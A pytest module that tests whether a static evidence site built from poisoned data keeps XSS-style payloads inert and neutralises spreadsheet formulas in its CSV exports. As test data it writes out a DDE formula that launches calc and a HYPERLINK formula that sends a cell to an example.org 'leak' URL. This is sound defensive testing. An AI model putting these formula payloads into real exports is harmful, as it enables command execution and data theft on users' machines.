"""Data text is text everywhere: hostile strings in every free-text field never become markup.

A copy of data/ gets script, event-handler, Markdown-link, Markdown-image + attr_list,
attribute break-out and template payloads in every free-text field (payloads.py) and still
validates. The notebooks are executed against it (IL12_DATA_DIR), the site is built strictly
from them (IL12_NOTEBOOKS_DIR), and chromium opens every page, opens every <details>, hovers
and focuses every number (tooltips) and runs a search; then no payload may have run, no
element may carry an event-handler attribute or a javascript: address, and every payload must
read as text, whole, wherever its field is shown. Exports must neutralise spreadsheet formulas.

Marked `payloads`: run alone with `-m payloads`, or leave it out with `-m "not payloads"`. It
costs 26–31 CPU-seconds (notebooks ≈13, build 6–9, chromium ≈6, the rest ≈2), spread over
two cores: two kernels, the build's imports overlapping them, three browser tabs.
"""

import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import threading
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import CHROMIUM, CHROMIUM_FLAGS, _QuietHandler
from payloads import PAYLOAD, PAYLOADS, XSS, expected_after, poison, read_rows, write_rows

from il12_evidence import __main__ as cli
from il12_evidence.execute import execute_together
from il12_evidence.export import FORMULA_STARTS, safe_cell
from il12_evidence.paths import NOTEBOOKS_DIR, ROOT
from il12_evidence.plotting import csv_text
from il12_evidence.rules import Finding
from il12_evidence.validation import validate

pytestmark = pytest.mark.payloads

MARKER = re.compile(r"⟦[^⟧]+⟧")
# Event-handler attributes that Material for MkDocs 9.8 itself writes into a page: none (checked
# on the canonical build). Anything else named on* came from data.
MATERIAL_HANDLERS: set[tuple[str, str]] = set()
URL_ATTRIBUTES = ("href", "src", "srcset", "action", "formaction", "xlink:href", "poster", "data")
# The mkdocs command line, its heavy imports done before it reads a line from stdin and builds.
PREWARMED_MKDOCS = (
    "import sys, mkdocs.__main__, mkdocs.commands.build, mkdocs_jupyter.plugin, material.plugins.search.plugin, "
    "il12_evidence.site, il12_evidence.tooltips, il12_evidence.validation; "
    "sys.stdin.readline(); sys.argv[0] = 'mkdocs'; mkdocs.__main__.cli()"
)
# A formula that survives into the figure CSVs when a group name is cut out of an arm ("SERIES, GROUP").
FORMULA = "=cmd|' /C calc'!A0"


def _tree_digest(folder: Path) -> dict[str, str]:
    return {
        str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory):
    """The hostile copy of data/, its executed notebooks and its strictly built site."""
    work = tmp_path_factory.mktemp("payloads")
    project = {**_tree_digest(ROOT / "data"), **_tree_digest(NOTEBOOKS_DIR)}
    data = work / "data"
    shutil.copytree(ROOT / "data", data)
    report = poison(data)
    _formula_in_grouped_arms(data)
    digest = _tree_digest(data)
    _, problems = validate(data)

    notebooks = work / "notebooks"
    notebooks.mkdir()
    # The notebooks that show every kind of data between them are executed on the hostile copy; the
    # others keep their committed outputs (the build needs every page of the nav).
    sources = []
    for source in sorted(NOTEBOOKS_DIR.glob("[0-9][0-9]_*.py")):
        if source.stem in PAYLOAD_NOTEBOOKS:
            sources.append(Path(shutil.copy(source, notebooks)))
        else:
            shutil.copy(source.with_suffix(".ipynb"), notebooks)
    env = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join([str(ROOT / "src"), os.environ.get("PYTHONPATH", "")]).rstrip(os.pathsep),
        "IL12_DATA_DIR": str(data),
        "IL12_NOTEBOOKS_DIR": str(notebooks),
        "NO_MKDOCS_2_WARNING": "1",
        "DISABLE_MKDOCS_2_WARNING": "true",
        "PYDEVD_DISABLE_FILE_VALIDATION": "1",
    }
    site = work / "site"
    # `mkdocs build --strict`, started now so that its imports overlap the notebooks' execution;
    # it builds once told to. Its cwd holds mkdocs-jupyter's cache (.cache/), not the project.
    build = subprocess.Popen(
        [
            sys.executable,
            "-c",
            PREWARMED_MKDOCS,
            "build",
            "--strict",
            "-f",
            str(ROOT / "mkdocs.yml"),
            "--site-dir",
            str(site),
        ],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=work,
        env=env,
    )
    try:
        if not problems:
            _execute_in_two_kernels(sources, notebooks, env)
    except BaseException:
        build.kill()
        build.communicate()
        raise
    stdout, stderr = build.communicate("build\n")
    return {
        "project": (project, {**_tree_digest(ROOT / "data"), **_tree_digest(NOTEBOOKS_DIR)}),
        "data": data,
        "digest": digest,
        "problems": problems,
        "report": report,
        "site": site,
        "build": subprocess.CompletedProcess(build.args, build.returncode, stdout, stderr),
    }


def _formula_in_grouped_arms(data: Path) -> None:
    """Arms read "SERIES, GROUP" become two figure-CSV cells: start the GROUP with a formula."""
    path = data / "claims.csv"
    header, rows = read_rows(path)
    for row in rows:
        series, comma, group = row["arm"].partition(", ")
        if comma and "⟦" not in series:
            row["arm"] = f"{series}, {FORMULA} {group}"
    write_rows(path, header, rows)


# Between them these show every table's text: the summary of findings and problems (home), study
# cards, later studies, claims without numbers and figures (combination; a grouped figure: mice), the audit, and the
# comparisons with sources; the explorer, Data, Methods and References pages show the rest.
PAYLOAD_NOTEBOOKS = ("00_home", "02_combinations", "03_irradiated_mice", "08_evidence_audit", "09_primary_sources")
POISONED_PAGES = {
    "/",
    "therapy/combination/",
    "recovery/mice/",
    "audit/",
    "sources/",
    "claims/",
    "data/",
    "methods/",
    "references/",
}

FIGURE_CALL = re.compile(r"\bpage\.(?:forest|stated_rates|grouped_rates|evidence_matrix|references_by_year|dosing)\(")


def _execute_in_two_kernels(sources: list[Path], target: Path, env: dict) -> None:
    """Two kernels (one per core), each executing its share of the notebooks one after another.

    Drawing figures is most of the work: the shares are balanced by figures drawn (heaviest first)."""
    halves: list[list[Path]] = [[], []]
    load = [0, 0]
    for source in sorted(sources, key=lambda s: -len(FIGURE_CALL.findall(s.read_text(encoding="utf-8")))):
        lighter = load.index(min(load))
        halves[lighter].append(source)
        load[lighter] += 1 + 2 * len(FIGURE_CALL.findall(source.read_text(encoding="utf-8")))
    errors: list[BaseException] = []

    def run(half):
        try:
            execute_together(half, target, env=env)
        except BaseException as error:  # reported by the main thread
            errors.append(error)

    threads = [threading.Thread(target=run, args=(half,)) for half in halves if half]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    if errors:
        raise errors[0]


@pytest.fixture(scope="module")
def site(poisoned) -> Path:
    assert poisoned["problems"] == [], "the hostile copy must validate:\n" + "\n".join(map(str, poisoned["problems"]))
    build = poisoned["build"]
    assert build.returncode == 0, build.stderr[-4000:]
    return poisoned["site"]


# --- the copy ------------------------------------------------------------------------------------
def test_payload_copy_validates_with_every_free_text_field_poisoned(poisoned):
    assert poisoned["problems"] == []
    fields = {f"{resource}.{field}" for resource, field in poisoned["report"]["fields"]}
    assert {"claims.note", "claims.arm", "studies.label", "review-problems.explanation", "units.singular", "facts.quote",
            "questions.question", "assertions.reason", "primary-studies.summary"} <= fields  # fmt: skip
    for resource, field, reason in poisoned["report"]["left"]:
        assert reason, f"{resource}.{field} is neither poisoned nor excused"


def test_project_data_and_notebooks_are_never_written(poisoned):
    before, after = poisoned["project"]
    assert after == before


def test_build_leaves_the_data_copy_byte_exact_and_publishes_it_verbatim(poisoned, site):
    assert _tree_digest(poisoned["data"]) == poisoned["digest"]
    published = {name: digest for name, digest in _tree_digest(site / "data").items() if name != "index.html"}
    assert {"datapackage.json", "claims.csv", "findings.csv", "facts.csv"} <= set(published)
    assert {name: poisoned["digest"].get(name) for name in published} == published


# --- the built files -------------------------------------------------------------------------------
class _Markup(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.handlers, self.script_urls, self.inline_scripts, self.elements = [], [], [], []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.elements.append(tag)
        for name, value in attrs:
            if name.startswith("on") and (tag, name) not in MATERIAL_HANDLERS:
                self.handlers.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and re.match(r"\s*javascript:", value or "", re.I):
                self.script_urls.append(f"<{tag} {name}={value!r}>")
        self._in_script = tag == "script" and not dict(attrs).get("src")

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.inline_scripts.append(data)


def test_built_pages_and_figures_carry_no_script_from_data(site):
    found = {}
    for path in sorted([*site.rglob("*.html"), *site.rglob("*.svg")]):
        markup = _Markup()
        markup.feed(path.read_text(encoding="utf-8"))
        bad = markup.handlers + markup.script_urls + [s[:80] for s in markup.inline_scripts if XSS in s]
        if path.suffix == ".svg":
            bad += [tag for tag in markup.elements if tag in ("script", "foreignobject", "iframe", "a")]
        if bad:
            found[str(path.relative_to(site))] = bad[:5]
    assert found == {}


def test_claims_index_holds_the_payloads_as_plain_strings(site):
    index = json.loads((site / "claims.json").read_text(encoding="utf-8"))
    strings = [value for entry in index.values() for value in _strings(entry)]
    marked = [s for s in strings if "⟦" in s]
    assert marked, "no payload reached claims.json"
    assert all(_whole(s) for s in marked), [s for s in marked if not _whole(s)][:3]


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def _whole(text: str) -> bool:
    """Every marker in the text is followed by the whole payload, character for character."""
    return all(text.startswith(expected_after(match.group()), match.end()) for match in MARKER.finditer(text))


# --- in the browser ----------------------------------------------------------------------------------
# The site script shows a tooltip once claims.json is fetched (a promise): after the first hover,
# wait while that fetch is under way (not at all if the script fetches nothing), then a few
# microtasks per number are enough. Hover and keyboard focus both open it.
BROWSE = """async () => {
  const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const settle = async () => { for (let i = 0; i < 4; i++) { await null; } };
  const shown = () => { const tip = document.getElementById("claim-tip"); return tip && !tip.hidden ? tip : null; };
  let fetching = false;
  const fetch = window.fetch;
  window.fetch = function (...args) { fetching = true; return fetch.apply(this, args); };
  document.querySelectorAll("details").forEach((d) => { d.open = true; });
  const tips = [];
  const links = Array.from(document.querySelectorAll("a.claim-link"));
  if (links.length) {
    links[0].dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
    for (let waited = 0; (fetching || waited < 100) && waited < 5000 && !shown(); waited += 20) { await sleep(20); }
  }
  for (const link of links) {
    for (const open of [() => link.dispatchEvent(new MouseEvent("mouseover", { bubbles: true })), () => link.focus({ preventScroll: true })]) {
      open();
      await settle();
      const tip = shown();
      if (tip) { tips.push(tip.textContent); }
      link.dispatchEvent(new MouseEvent("mouseout", { bubbles: true }));
      link.blur();
    }
  }
  return tips;
}"""

INSPECT = """([urlAttributes]) => {
  const handlers = [], scriptUrls = [], attributes = [], texts = [];
  for (const element of document.querySelectorAll("*")) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith("on")) { handlers.push(element.tagName.toLowerCase() + " " + name + "=" + attribute.value); }
      if (urlAttributes.includes(name) && /^\\s*javascript:/i.test(attribute.value)) {
        scriptUrls.push(element.tagName.toLowerCase() + " " + name + "=" + attribute.value);
      }
      if (attribute.value.includes("⟦")) { attributes.push(attribute.value); }
    }
  }
  // Text as the reader gets it: every text node outside script, style and template, joined per
  // block so that a payload split by markup that data created shows up broken.
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  let text = "";
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (node.parentElement.closest("script, style, template, noscript")) { continue; }
    text += node.nodeValue;
  }
  return { xss: typeof window.__xss === "undefined" ? null : String(window.__xss), handlers, scriptUrls, attributes, text };
}"""


@pytest.fixture(scope="module")
def browsed(site):
    if not (Path(CHROMIUM).exists() or shutil.which(CHROMIUM)):
        message = f"no chromium at {CHROMIUM}"
        # as the other browser tests: only a local run may skip; where a browser is required, it fails
        if any(os.environ.get(name, "").lower() not in ("", "0", "false") for name in ("IL12_REQUIRE_BROWSER", "CI")):
            pytest.fail(message, pytrace=False)
        pytest.skip(message)
    return browse(site)


def browse(site: Path, *, tabs: int = 3) -> dict[str, dict]:
    """Every page after searching, opening its details and hovering and focusing its numbers.

    A few tabs at a time: most of a page's time is waiting for the browser, not computing."""
    import asyncio
    import functools
    import http.server

    from playwright.async_api import async_playwright

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_QuietHandler, directory=str(site)))
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    server = f"http://127.0.0.1:{httpd.server_address[1]}"
    paths = sorted(
        "" if p.parent == site else p.parent.relative_to(site).as_posix() + "/" for p in site.rglob("index.html")
    )

    async def visit(context, path, limit):
        async with limit:
            page = await context.new_page()
            errors = []
            page.on("pageerror", lambda error: errors.append(str(error)))
            # On the home page, ?q= makes Material run a search on load (it reads the query from the URL).
            await page.goto(f"{server}/{path}" + ("?q=onerror" if path == "" else ""), wait_until="load")
            search = await _search_results(page) if path == "" else ""
            tips = await page.evaluate(BROWSE)
            result = await page.evaluate(INSPECT, [list(URL_ATTRIBUTES)])
            result["tips"], result["errors"], result["search"] = tips, errors, search
            await page.close()
            return path or "/", result

    async def run():
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS)
            context = await browser.new_context(viewport={"width": 1280, "height": 900})
            limit = asyncio.Semaphore(tabs)
            results = await asyncio.gather(*(visit(context, path, limit) for path in paths))
            await browser.close()
            return dict(results)

    try:
        return asyncio.run(run())
    finally:
        httpd.shutdown()


async def _search_results(page) -> str:
    """The text of Material's search results (rendered from the search index by its script)."""
    await page.wait_for_selector(".md-search-result__item", state="attached", timeout=15_000)
    return await page.text_content(".md-search-result__list") or ""


def test_no_payload_runs_on_any_page(browsed):
    ran = {path: r["xss"] for path, r in browsed.items() if r["xss"] is not None}
    assert ran == {}, "window.__xss was set: a payload ran"


def test_no_element_gets_an_event_handler_or_a_script_address(browsed):
    handlers = {path: r["handlers"][:5] for path, r in browsed.items() if r["handlers"]}
    script_urls = {path: r["scriptUrls"][:5] for path, r in browsed.items() if r["scriptUrls"]}
    assert handlers == {}
    assert script_urls == {}


def test_payloads_read_as_whole_text_where_their_field_is_shown(browsed):
    broken = {}
    for path, result in browsed.items():
        pieces = [result["text"], *result["attributes"], *result["tips"]]
        bad = [_context(piece) for piece in pieces if not _whole(piece)]
        if bad:
            broken[path] = bad[:3]
    assert broken == {}


def test_payloads_reach_every_page_that_shows_data(browsed):
    """The test covers what it claims: markers are read on every page built from data."""
    shown = {path: {m.group(0) for m in MARKER.finditer(r["text"])} for path, r in browsed.items()}
    empty = [path for path, markers in shown.items() if not markers and path in POISONED_PAGES]
    assert empty == [] and set(shown) >= POISONED_PAGES
    everywhere = {marker.strip("⟦⟧").rpartition("#") for marker in set().union(*shown.values())}
    fields = {field for field, _, _ in everywhere}
    for field in ("claims.note", "claims.arm", "studies.label", "review-problems.title", "primary-sources.note",
                  "facts.quote", "facts.text", "questions.question", "question-evidence.arm", "assertions.reason",
                  "primary-studies.label"):  # fmt: skip
        assert field in fields, field
    assert {variant for _, _, variant in everywhere} >= {"all", *map(str, range(len(PAYLOADS)))}
    assert MARKER.search(browsed["/"]["search"]), "the search found no payload"


def test_tooltips_show_the_payloads_as_text(browsed, site):
    tips = [tip for result in browsed.values() for tip in result["tips"]]
    assert any(MARKER.search(tip) for tip in tips), "no tooltip showed data"
    assert [tip[:200] for tip in tips if not _whole(tip)] == []


def _context(text: str) -> str:
    for match in MARKER.finditer(text):
        if not text.startswith(expected_after(match.group()), match.end()):
            return text[max(0, match.start() - 40) : match.end() + len(PAYLOAD) + 20]
    return text[:120]


# --- exports: spreadsheet formulas -------------------------------------------------------------------
def _cells(text: str) -> list[str]:
    """The cells a spreadsheet sees: a bare carriage return outside quotes would start a new row."""
    records = re.findall(r'(?:"(?:[^"]|"")*"|[^"\r\n])*(?:\r\n|\n|\r|$)', text)
    return [cell for record in records if record for row in csv.reader([record.rstrip("\r\n")]) for cell in row]


def _formulas(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_figure_csvs_on_the_site_neutralise_formulas(site):
    cells = [cell for path in sorted((site / "figures").glob("*.csv")) for cell in _cells(path.read_text("utf-8"))]
    assert cells, "no figure CSV was published"
    assert _formulas(cells) == []
    assert "'" + FORMULA in " ".join(cells), "the formula in a group name never reached a figure CSV"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_safe_cell_and_figure_csv_neutralise_each_formula_start(start):
    hostile = f'{start}HYPERLINK("https://example.org","x")'
    assert safe_cell(hostile) == "'" + hostile
    assert _formulas(_cells(csv_text([{"study": hostile, "value": "12"}]))) == []
    assert safe_cell("IL-12 = 3") == "IL-12 = 3"  # only the first character matters


def test_a_carriage_return_in_a_cell_cannot_start_a_row_with_a_formula():
    text = csv_text([{"study": f"Duvic 2006\r{FORMULA}", "group": "arm\n+1"}])
    assert _formulas(_cells(text)) == []
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["study", "group"],
        [f"Duvic 2006\r{FORMULA}", "arm\n+1"],
    ]


def test_audit_csv_neutralises_a_formula_in_a_finding(monkeypatch, capsys):
    hostile = Finding(
        rule="@rule",
        subject="+subject",
        kind="claim",
        status="-failed",
        severity="error",
        explanation=f'=HYPERLINK("https://example.org/?leak="&A1,"{PAYLOAD}")\r{FORMULA}',
        fragment=f"\tfragment\r{FORMULA}",
        mark="\rfailed",
        conventions=("=half-up",),
    )

    class Audit:
        findings = [hostile]

        @classmethod
        def of(cls, dataset):
            return cls

    monkeypatch.setattr(cli, "validate", lambda data_dir: (object(), []))
    monkeypatch.setattr(cli, "Audit", Audit)
    assert cli.main(["audit", "--format", "csv", "--all"]) == 0
    cells = _cells(capsys.readouterr().out)
    assert _formulas(cells) == []
    assert "'" + hostile.explanation in cells


def test_audit_csv_of_the_hostile_copy_has_no_formula(poisoned, capsys):
    assert cli.main(["audit", "--format", "csv", "--all", "--data", str(poisoned["data"])]) == 0
    cells = _cells(capsys.readouterr().out)
    assert any("⟦" in cell for cell in cells)
    assert _formulas(cells) == []
